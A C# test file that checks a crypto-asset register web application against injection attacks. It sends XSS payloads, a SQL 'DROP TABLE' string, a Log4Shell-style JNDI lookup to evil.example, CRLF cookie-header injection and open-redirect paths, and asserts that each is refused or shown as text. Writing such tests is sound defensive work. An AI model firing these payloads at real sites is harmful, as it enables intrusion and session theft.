using Portolan.Tests.Web.Access;

namespace Portolan.Tests.Web.Hostile;

/// <summary>Markup, statements and formulas where a word is expected: shown as text or refused, and never more than that.</summary>
[Collection(HostileRequests.Name)]
public class InjectionTests(HostileProgram program)
{
    private const string Script = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    private const string Image = "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E";
    private const string Duty = $"/duties/of/{StaffedProgram.Exchange}/mica.72.4.conflicts-review";

    [Theory]
    [InlineData($"/?home={Script}", 400, "is not a State of the EEA")]
    [InlineData($"/?service={Script}", 400, "is not a crypto-asset service")]
    [InlineData($"/?scenario={Image}", 400, "no scenario '\"><img src=x onerror=alert(1)>'")]
    [InlineData($"/?on={Script}", 400, "is not a day (expected YYYY-MM-DD")]
    [InlineData($"/?whose={Image}", 400, "in the register (expected an LEI")]
    [InlineData($"/?view={Image}", 400, "(expected before or difference")]
    [InlineData($"/?rules={Script}", 400, "rules:1:1:")]
    [InlineData($"/?lang={Script}", 200, "Where crypto-asset firms may operate")]
    [InlineData($"/?unknown={Image}", 200, "Where crypto-asset firms may operate")]
    [InlineData($"/firms/{Image}/FR/a", 400, "in the register (expected an LEI")]
    [InlineData($"/states/{Image}", 400, "is not a State of the EEA")]
    [InlineData($"/bench?hosts={Image}", 400, "hosts '\"><img")]
    [InlineData($"/bench?rules={Script}", 200, "<script>alert(1)</script>")]
    [InlineData($"/bench?rules=-%20id%3A%20{Image}", 200, "The rules cannot be used, and are left out")]
    [InlineData("/bench?rules=-%20id%3A%20x%0A%20%20when%3A%20%22%7B%7B7*7%7D%7D%22", 200, "The rules cannot be used, and are left out")]
    [InlineData($"/bench/brief?rules={Script}", 400, "rules:1:1:")]
    [InlineData($"/duties?firm={Image}", 400, "in the register (expected an LEI")]
    [InlineData($"/duties?stands={Image}", 400, "(expected overdue, due, unsettled, met, none)")]
    [InlineData($"/duties/calendar?month={Image}", 400, "(expected YYYY-MM")]
    [InlineData($"/duties/calendar.ics?firm={Image}", 400, "in the register (expected an LEI")]
    [InlineData($"{Duty}?state={Image}", 400, "is not a State of the EEA")]
    [InlineData($"{Duty}?recorded={Image}", 400, "(expected a whole number from 0)")]
    [InlineData($"/filings/{Image}", 404, "there is nothing at this address")]
    [InlineData($"/filings/new?form={Image}&firm=x", 400, "no form")]
    [InlineData($"/rules?q={Image}", 200, "0 rules on 0 acts")]
    [InlineData($"/rules?effect={Script}", 400, "(expected one of permit")]
    [InlineData($"/rules/{Image}", 404, "no rule '\"><img")]
    [InlineData($"/register?q={Script}", 200, "0 of 325 firms")]
    [InlineData($"/register?q={Image}", 200, "0 of 325 firms")]
    [InlineData("/register?q='%20OR%201=1;%20DROP%20TABLE%20entries;--", 200, "0 of 325 firms")]
    [InlineData("/register?q=%24%7Bjndi:ldap://evil.example/a%7D", 200, "0 of 325 firms")]
    [InlineData("/register?q=%00", 200, "0 of 325 firms")]
    [InlineData("/register?q=%ED%A0%80%FF", 200, "0 of 325 firms")]
    [InlineData($"/register/quality?code={Image}", 400, "(expected one of those that the page lists")]
    [InlineData($"/record?by={Image}", 200, "Merkle tree")]
    [InlineData($"/record?stream={Image}", 400, "is not the name of a stream")]
    [InlineData($"/record?type={Script}", 200, "Merkle tree")]
    [InlineData($"/sign-in?return=%2F{Image}", 200, "With a passkey")]
    [InlineData($"/nowhere/{Image}", 404, "there is nothing at this address")]
    [InlineData("/javascript:alert(1)", 404, "there is nothing at this address")]
    [InlineData("/https://evil.example/", 404, "there is nothing at this address")]
    [InlineData("//evil.example/", 404, "there is nothing at this address")]
    [InlineData("/?lang=en%0D%0ASet-Cookie:%20hostile=1", 200, "Where crypto-asset firms may operate")]
    [InlineData("/sign-in?return=/%0D%0ASet-Cookie:%20hostile=1", 200, "With a passkey")]
    [InlineData("/record?stream=x%0D%0ASet-Cookie:%20hostile=1", 400, "is not the name of a stream")]
    public Task Text_of_a_query_or_path_stays_text(string target, int status, string says) => program.RefusesAsync(RawRequest.Get(target, program.Ada), status, says);

    [Theory]
    [InlineData("/account/tokens", "label", 400, "is not a day")]
    [InlineData("/accounts/invite", "role", 400, "role '<script>alert(1)</script>'")]
    [InlineData(Duty + "/occasion", "name", 422, "follows no event")]
    [InlineData(Duty + "/meet", "on", 422, "on '<script>alert(1)</script>' is not a day")]
    [InlineData("/sign-in", "name", 403, "That did not open an account")]
    [InlineData("/sign-in/passkey", "credential", 403, "The passkey did not open an account")]
    public async Task Text_of_a_form_stays_text(string target, string field, int status, string says)
    {
        var page = (await program.Ada.GetAsync(target.StartsWith("/sign-in", StringComparison.Ordinal) ? "/sign-in" : "/account")).Page;
        var fields = new[] { ("form", Browser.Hidden(page, "form")), ("ceremony", Browser.Hidden(page, "ceremony")), (field, "<script>alert(1)</script>") };
        var request = target.EndsWith("/meet", StringComparison.Ordinal) ? Multipart.Of(target, program.Ada, fields.Select(Multipart.Field)) : RawRequest.Form(target, program.Ada, fields);
        await program.RefusesAsync(request, status, says);
    }
}
